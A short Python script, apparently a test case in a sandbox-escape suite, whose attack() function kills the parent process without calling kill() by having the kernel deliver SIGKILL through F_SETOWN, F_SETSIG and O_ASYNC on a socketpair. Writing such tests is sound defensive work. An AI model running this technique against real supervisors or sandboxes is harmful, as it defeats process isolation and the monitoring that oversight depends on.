"""Kill the parent without kill(): let the kernel signal it when data arrives on a socket."""

import fcntl
import os
import signal
import socket
import time

F_SETSIG = 10


def attack(folder, port):
    fcntl.fcntl(3, fcntl.F_SETOWN, os.getppid())
    here, there = socket.socketpair()
    fcntl.fcntl(here, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(here, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(here, fcntl.F_SETFL, os.O_ASYNC)
    there.send(b"x")
    time.sleep(0.1)
    return True
